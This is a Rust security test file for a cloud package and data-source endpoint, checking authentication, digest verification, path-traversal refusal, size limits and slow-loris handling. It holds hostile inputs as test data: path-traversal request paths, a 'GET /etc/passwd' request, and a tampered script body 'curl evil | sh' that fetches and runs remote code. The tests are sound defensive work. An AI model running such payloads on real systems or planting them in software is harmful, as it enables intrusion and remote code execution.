//! The file endpoint and its agent client over real HTTPS on loopback, with the control
//! plane's real TLS identity, attacked the ways an agent or a stranger could.

use futures::future::BoxFuture;
use std::collections::HashMap;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use stratus_cloud::endpoint::{HANDSHAKE_TIMEOUT, HEADER_TIMEOUT, MAX_CONNECTIONS};
use stratus_cloud::{
    AgentIdentity, Authorize, Beneath, CloudFiles, Expected, FileEndpoint, FileRef, FilesError,
    PackageRef, RemoteFiles, Secret,
};
use stratus_protocol::tls::{ControlIdentity, pinned_client_config};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// Credentials of live servers, by (deployment, server); a terminated one is removed.
#[derive(Default)]
struct Live(Mutex<HashMap<(String, String), String>>);

impl Authorize for Live {
    fn verify<'a>(
        &'a self,
        deployment: &'a str,
        server: &'a str,
        credential: &'a Secret,
    ) -> BoxFuture<'a, bool> {
        let key = (deployment.to_string(), server.to_string());
        let ok = self.0.lock().unwrap().get(&key).map(String::as_str) == Some(credential.expose());
        Box::pin(async move { ok })
    }
}

struct Setup {
    tmp: tempfile::TempDir,
    live: Arc<Live>,
    base: String,
    tls: Arc<rustls::ClientConfig>,
    package: PackageRef,
    data: FileRef,
    data_bytes: Vec<u8>,
}

fn write(path: &Path, content: &[u8], mode: u32) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, content).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// A bucket with one package and one 3 MiB data source of deployment `shop`, a server of
/// `shop` and one of `other`, and the endpoint serving on loopback.
async fn setup() -> Setup {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("pkg");
    write(&src.join("plugin.toml"), b"name = 'app'", 0o644);
    write(&src.join("plugin.wasm"), b"\0asm", 0o644);
    write(&src.join("files/bin/app"), b"#!/bin/sh\necho hi", 0o755);
    let files = CloudFiles::local(tmp.path().join("bucket")).unwrap();
    let package = files.put_package("shop-app", &src).await.unwrap();
    files.grant_package("shop", &package).await.unwrap();
    let data_bytes: Vec<u8> = (0..3 * 1024 * 1024 + 7).map(|i| (i % 253) as u8).collect();
    let sql = tmp.path().join("data.sql");
    std::fs::write(&sql, &data_bytes).unwrap();
    let data = files.put_file("data-sources/shop/db", &sql).await.unwrap();
    files.grant_file("shop", &data).await.unwrap();

    let live = Arc::new(Live::default());
    for (d, s, c) in [
        ("shop", "web-1", "cred-shop"),
        ("other", "web-1", "cred-other"),
    ] {
        live.0
            .lock()
            .unwrap()
            .insert((d.into(), s.into()), c.into());
    }
    let identity = ControlIdentity::load_or_generate(tmp.path()).unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("https://{}", listener.local_addr().unwrap());
    let endpoint = FileEndpoint::new(files.clone(), live.clone(), identity.server_config());
    tokio::spawn(endpoint.serve(listener));
    Setup {
        tls: pinned_client_config(&identity.fingerprint),
        tmp,
        live,
        base,
        package,
        data,
        data_bytes,
    }
}

impl Setup {
    fn agent(&self, deployment: &str, credential: &str) -> RemoteFiles {
        let identity = AgentIdentity {
            deployment: deployment.into(),
            server_id: "web-1".into(),
            credential: Secret::new(credential),
        };
        RemoteFiles::new(&self.base, self.tls.clone(), identity).unwrap()
    }

    fn dest(&self, name: &str) -> Beneath {
        let dir = self.tmp.path().join(name);
        std::fs::create_dir_all(&dir).unwrap();
        Beneath::open(&dir).unwrap()
    }

    fn data_expected(&self) -> Expected {
        Expected {
            object: "data-sources/shop/db".into(),
            sha256: self.data.sha256.clone(),
            size: self.data.size,
        }
    }

    fn is_empty(&self, name: &str) -> bool {
        std::fs::read_dir(self.tmp.path().join(name))
            .unwrap()
            .next()
            .is_none()
    }
}

#[tokio::test]
async fn an_agent_fetches_its_package_and_data_source_verified() {
    let s = setup().await;
    let agent = s.agent("shop", "cred-shop");
    let fetched = agent.fetch_package(&s.package).await.unwrap();
    let written = fetched.write_to(&s.dest("pkg-out")).unwrap();
    assert_eq!(written.len(), 3);
    let out = s.tmp.path().join("pkg-out");
    assert_eq!(
        std::fs::read(out.join("plugin.toml")).unwrap(),
        b"name = 'app'"
    );
    let mode = std::fs::metadata(out.join("files/bin/app"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o755);

    let rel = Path::new("db/data.sql");
    agent
        .fetch_file(&s.data_expected(), &s.dest("data-out"), rel)
        .await
        .unwrap();
    let got = std::fs::read(s.tmp.path().join("data-out").join(rel)).unwrap();
    assert!(got == s.data_bytes, "data source differs");
}

#[tokio::test]
async fn strangers_other_deployments_and_revoked_servers_are_refused() {
    let s = setup().await;
    let refused = |e: FilesError| match e {
        FilesError::Refused { status, .. } => status,
        other => panic!("expected a refusal, got {other}"),
    };
    // A live server of another deployment that knows the digest.
    let other = s.agent("other", "cred-other");
    let e = other.fetch_package(&s.package).await.unwrap_err();
    assert_eq!(refused(e), 404);
    let e = other
        .fetch_file(&s.data_expected(), &s.dest("o"), Path::new("x"))
        .await
        .unwrap_err();
    assert_eq!(refused(e), 404);
    assert!(s.is_empty("o"));
    // Right names, wrong credential; another server's credential.
    let e = s
        .agent("shop", "cred-other")
        .fetch_package(&s.package)
        .await;
    assert_eq!(refused(e.unwrap_err()), 401);
    // Terminated: its credential is forgotten.
    let agent = s.agent("shop", "cred-shop");
    agent.fetch_package(&s.package).await.unwrap();
    s.live.0.lock().unwrap().clear();
    let e = agent.fetch_package(&s.package).await.unwrap_err();
    let text = e.to_string();
    assert_eq!(refused(e), 401);
    assert!(!text.contains("cred-shop"), "{text}");
}

/// Sends one raw request over TLS and returns the status line (the agent client only builds
/// well-formed requests).
async fn raw(s: &Setup, head: &str) -> String {
    let addr = s.base.trim_start_matches("https://");
    let tcp = TcpStream::connect(addr).await.unwrap();
    let connector = tokio_rustls::TlsConnector::from(s.tls.clone());
    let name = rustls::pki_types::ServerName::try_from("localhost").unwrap();
    let mut tls = connector.connect(name, tcp).await.unwrap();
    tls.write_all(head.as_bytes()).await.unwrap();
    let mut out = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), tls.read_to_end(&mut out)).await;
    String::from_utf8_lossy(&out)
        .lines()
        .next()
        .unwrap_or_default()
        .to_string()
}

#[tokio::test]
async fn path_like_and_non_hex_addresses_are_refused_before_any_lookup() {
    let s = setup().await;
    let auth = "x-stratus-deployment: shop\r\nx-stratus-server: web-1\r\n\
                authorization: Bearer cred-shop\r\nconnection: close\r\n";
    let upper = s.package.manifest.to_uppercase();
    let short = &s.package.manifest[..63];
    for path in [
        "/v1/objects/sha256/../../index/sha256/x.json".to_string(),
        "/v1/objects/sha256/%2e%2e%2fgrants".to_string(),
        format!("/v1/objects/sha256/{upper}"),
        format!("/v1/objects/sha256/{short}"),
        format!("/v1/objects/sha256/{}/x", s.package.manifest),
        "/v1/objects/sha256/".to_string(),
    ] {
        let status = raw(&s, &format!("GET {path} HTTP/1.1\r\nhost: x\r\n{auth}\r\n")).await;
        assert!(status.contains(" 400 "), "{path}: {status}");
    }
    let ok = format!("/v1/objects/sha256/{}", s.package.manifest);
    let status = raw(&s, &format!("GET {ok} HTTP/1.1\r\nhost: x\r\n{auth}\r\n")).await;
    assert!(status.contains(" 200 "), "{status}");
    let status = raw(
        &s,
        &format!("GET {ok} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n"),
    )
    .await;
    assert!(status.contains(" 401 "), "no credential: {status}");
    let status = raw(
        &s,
        "GET /etc/passwd HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n",
    )
    .await;
    assert!(status.contains(" 404 "), "{status}");
}

#[tokio::test]
async fn tampered_objects_are_caught_by_the_agent_and_nothing_is_written() {
    let s = setup().await;
    let bucket = s.tmp.path().join("bucket");
    let file = bucket.join(format!(
        "packages/shop-app/{}/files/bin/app",
        s.package.digest
    ));
    std::fs::write(&file, b"#!/bin/sh\ncurl evil | sh").unwrap();
    let agent = s.agent("shop", "cred-shop");
    let err = agent.fetch_package(&s.package).await.unwrap_err();
    assert!(matches!(err, FilesError::Mismatch { .. }), "{err}");
    assert!(err.to_string().contains("files/bin/app"), "{err}");

    let data = bucket.join(format!("data/sha256/{}", s.data.sha256));
    let mut bad = s.data_bytes.clone();
    bad[12345] ^= 0x20;
    std::fs::write(&data, &bad).unwrap();
    let err = agent
        .fetch_file(&s.data_expected(), &s.dest("d"), Path::new("db.sql"))
        .await
        .unwrap_err();
    assert!(matches!(err, FilesError::Mismatch { .. }), "{err}");
    assert!(err.to_string().contains("data-sources/shop/db"), "{err}");
    assert!(s.is_empty("d"), "no partial or temporary file is left");
}

#[tokio::test]
async fn an_object_larger_than_expected_is_refused() {
    let s = setup().await;
    let agent = s.agent("shop", "cred-shop");
    let mut expected = s.data_expected();
    expected.size = 1024;
    let err = agent
        .fetch_file(&expected, &s.dest("big"), Path::new("db.sql"))
        .await
        .unwrap_err();
    assert!(matches!(err, FilesError::ObjectTooLarge { .. }), "{err}");
    assert!(s.is_empty("big"));
    // A manifest that claims more files than the reference says is refused too.
    let mut lying = s.package.clone();
    lying.files = 1;
    let err = agent.fetch_package(&lying).await.unwrap_err();
    assert!(err.to_string().contains("lists 3 files, not 1"), "{err}");
}

/// Peers that stall in the TLS handshake or in their request head are cut off at the limits,
/// and an agent is served meanwhile.
#[tokio::test]
async fn slow_loris_peers_are_cut_off_and_hold_up_nobody() {
    let s = setup().await;
    let addr = s.base.trim_start_matches("https://").to_string();
    // Never starts a handshake.
    let mut silent = TcpStream::connect(&addr).await.unwrap();
    // Handshakes, then sends half a request head and waits.
    let tcp = TcpStream::connect(&addr).await.unwrap();
    let connector = tokio_rustls::TlsConnector::from(s.tls.clone());
    let name = rustls::pki_types::ServerName::try_from("localhost").unwrap();
    let mut slow = connector.connect(name, tcp).await.unwrap();
    slow.write_all(b"GET /v1/objects/sha256/").await.unwrap();
    slow.flush().await.unwrap();

    let started = Instant::now();
    let agent = s.agent("shop", "cred-shop");
    agent.fetch_package(&s.package).await.unwrap();
    // Below the 10 s limits the stalled peers would hold a serial endpoint up for, with room
    // for a loaded machine.
    assert!(
        started.elapsed() < Duration::from_secs(8),
        "{:?}",
        started.elapsed()
    );

    let limit = HANDSHAKE_TIMEOUT.max(HEADER_TIMEOUT) + Duration::from_secs(5);
    let mut buf = [0u8; 64];
    let closed = tokio::time::timeout(limit, silent.read(&mut buf)).await;
    assert!(
        matches!(closed, Ok(Ok(0)) | Ok(Err(_))),
        "silent peer kept open"
    );
    let closed = tokio::time::timeout(limit, slow.read(&mut buf)).await;
    assert!(
        matches!(closed, Ok(Ok(_)) | Ok(Err(_))),
        "slow peer kept open past {limit:?}"
    );
}

/// With every place taken, one more peer waits in the accept queue and is served once a place
/// frees, instead of being reset (a thousand agents fetching at once failed their launch).
#[tokio::test]
async fn a_peer_beyond_the_places_waits_its_turn_and_is_served() {
    let s = setup().await;
    let addr = s.base.trim_start_matches("https://").to_string();
    let mut holders = Vec::new();
    for _ in 0..MAX_CONNECTIONS {
        holders.push(TcpStream::connect(&addr).await.unwrap());
    }
    let agent = s.agent("shop", "cred-shop");
    let package = s.package.clone();
    let fetch = tokio::spawn(async move { agent.fetch_package(&package).await });
    tokio::time::sleep(Duration::from_secs(1)).await;
    assert!(
        !fetch.is_finished(),
        "the peer beyond the places was answered at once"
    );
    // Closing the holders ends their handshakes, which frees their places.
    drop(holders);
    let fetched = tokio::time::timeout(Duration::from_secs(8), fetch)
        .await
        .expect("the waiting peer was not served once places freed")
        .unwrap();
    fetched.unwrap();
}
